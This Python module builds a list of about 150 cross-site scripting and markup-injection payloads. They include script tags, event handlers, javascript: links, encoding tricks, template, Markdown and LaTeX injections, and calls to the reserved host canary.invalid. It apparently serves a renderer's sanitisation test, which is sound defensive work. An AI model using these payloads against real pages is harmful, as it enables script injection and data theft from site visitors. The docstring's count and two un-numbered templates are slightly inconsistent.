"""A hundred texts, each of which runs a script, or asks another host, on some page that takes it for markup.

`ran(§)` is a function of the browser that tells the test which one ran. A text is a name, too: at most 80 characters,
no comma.
"""

from __future__ import annotations

CANARY = "canary.invalid"  # a host that nothing may ask

_TEMPLATES = r"""
<script>ran(§)</script>
<ScRiPt>ran(§)</sCrIpT>
<script >ran(§)</script >
<script/x>ran(§)</script>
<scr<script>ipt>ran(§)</scr</script>ipt>
</script><script>ran(§)</script>
</title><script>ran(§)</script>
</textarea><script>ran(§)</script>
</style><script>ran(§)</script>
</noscript><script>ran(§)</script>
</select><script>ran(§)</script>
</template><script>ran(§)</script>
--><script>ran(§)</script>
]]><script>ran(§)</script>
"><script>ran(§)</script>
'><script>ran(§)</script>
<script src=//canary.invalid/§></script>
<script src=data:text/javascript;base64;ran(§)></script>
<script type=module>ran(§)</script>
<svg><script>ran(§)</script></svg>
<svg><script href=data:text/javascript;ran(§) />
<math><mtext><script>ran(§)</script>
<img src=x onerror=ran(§)>
<IMG SRC=x OnErRoR=ran(§)>
<img/src=x/onerror=ran(§)>
<img src=x onerror="ran(§)"
<img src="x" onerror='ran(§)'//
<img src=x onerror=&#114;an(N)>
<img src=x onerror=\u0072an(N)>
<img src=x onerror=ran&lpar;§&rpar;>
<image src=x onerror=ran(§)>
<img src=http://canary.invalid/§>
<img srcset=//canary.invalid/§>
<input type=image src=x onerror=ran(§)>
<video src=x onerror=ran(§)>
<video><source onerror=ran(§)>
<audio src=x onerror=ran(§)>
<video poster=//canary.invalid/§>
<object data=x onerror=ran(§)>
<object data=javascript:ran(§)>
<embed src=javascript:ran(§)>
<iframe src=javascript:parent.ran(§)></iframe>
<iframe srcdoc="<script>parent.ran(§)</script>">
<iframe onload=ran(§)></iframe>
<iframe src="data:text/html;<script>ran(§)</script>">
<body onload=ran(§)>
<body onpageshow=ran(§)>
<svg onload=ran(§)>
<svg/onload=ran(§)>
<svg><g onload=ran(§)></g></svg>
<svg><animate onbegin=ran(§) attributeName=x dur=1s>
<svg><set attributeName=x onbegin=ran(§)>
<svg><a xlink:href=javascript:ran(§)><text y=9>x</text></a>
<svg><image href=x onerror=ran(§)>
<svg><use href=//canary.invalid/§#x>
<math href=javascript:ran(§)>x</math>
<details open ontoggle=ran(§)>x</details>
<input autofocus onfocus=ran(§)>
<select autofocus onfocus=ran(§)></select>
<textarea autofocus onfocus=ran(§)></textarea>
<p tabindex=0 autofocus onfocus=ran(§)>x</p>
<p contenteditable autofocus onfocus=ran(§)>x
<marquee onstart=ran(§)>x</marquee>
<b onmouseover=ran(§)>x</b>
<b onpointerenter=ran(§) style=position:fixed;inset:0>x</b>
<button onclick=ran(§)>x</button>
<a href=javascript:ran(§)>x</a>
<a href="java&#9;script:ran(§)">x</a>
<a href=JaVaScRiPt:ran(§)>x</a>
<a href=//canary.invalid/§ autofocus>x</a>
<form action=javascript:ran(§)><button>x</button></form>
<form><button formaction=javascript:ran(§)>x
<style>@import '//canary.invalid/§';</style>
<style>*{background:url(//canary.invalid/§)}</style>
<style onload=ran(§)></style>
<p style=background:url(//canary.invalid/§)>x</p>
<p style="animation:x 1s" onanimationstart=ran(§)>x
<link rel=stylesheet href=//canary.invalid/§>
<link rel=prefetch href=//canary.invalid/§>
<meta http-equiv=refresh content="0;url=//canary.invalid/§">
<base href=//canary.invalid/§/>
<!--><img src=x onerror=ran(§)>
<![CDATA[<img src=x onerror=ran(§)>]]>
<?xml ?><img src=x onerror=ran(§)>
&lt;img src=x onerror=ran(§)&gt;
&#60;img src=x onerror=ran(§)&#62;
\u003cimg src=x onerror=ran(§)\u003e
\x3cimg src=x onerror=ran(§)\x3e
%3Cimg src=x onerror=ran(§)%3E
＜img src=x onerror=ran(§)＞
‹img src=x onerror=ran(§)›
" onmouseover="ran(§)" x="
' onmouseover='ran(§)' x='
" autofocus onfocus=ran(§) x="
x onmouseover=ran(§) style=position:fixed;inset:0
';ran(§);//
";ran(§);//
`;ran(§);//
'+ran(§)+'
\';ran(§);//
{{ran(§)}}
{{constructor.constructor('ran(§)')()}}
{{{ran(§)}}}
${ran(§)}
#{ran(§)}
<%= ran(§) %>
{%raw%}<img src=x onerror=ran(§)>
[x](javascript:ran(§))
[x](<javascript:ran(§)>)
[x](JaVaScRiPt:ran(§) "x")
[x](data:text/html;<script>ran(§)</script>)
![x](http://canary.invalid/§)
![x](x "onerror=ran(§)")
[x]: javascript:ran(§)
<javascript:ran(§)>
<http://canary.invalid/§>
http://canary.invalid/§
`<img src=x onerror=ran(§)>`
**<img src=x onerror=ran(§)>**
# <img src=x onerror=ran(§)>
> <img src=x onerror=ran(§)>
| x | <img src=x onerror=ran(§)> |
- [ ] <img src=x onerror=ran(§)>
:red[<img src=x onerror=ran(§)>]
:material/home: <img src=x onerror=ran(§)>
:red-badge[[x](javascript:ran(§))]
$\href{javascript:ran(§)}{x}$
$$\url{javascript:ran(§)}$$
$\htmlData{x=y}{<img src=x onerror=ran(§)>}$
$\includegraphics{http://canary.invalid/§}$
\(\href{javascript:ran(§)}{x}\)
javascript:ran(§)
vbscript:ran(§)
data:text/html;<script>ran(§)</script>
//canary.invalid/§
=HYPERLINK("http://canary.invalid/§")
""".strip().splitlines()

PAYLOADS = [template.replace("§", str(number)) for number, template in enumerate(_TEMPLATES)]
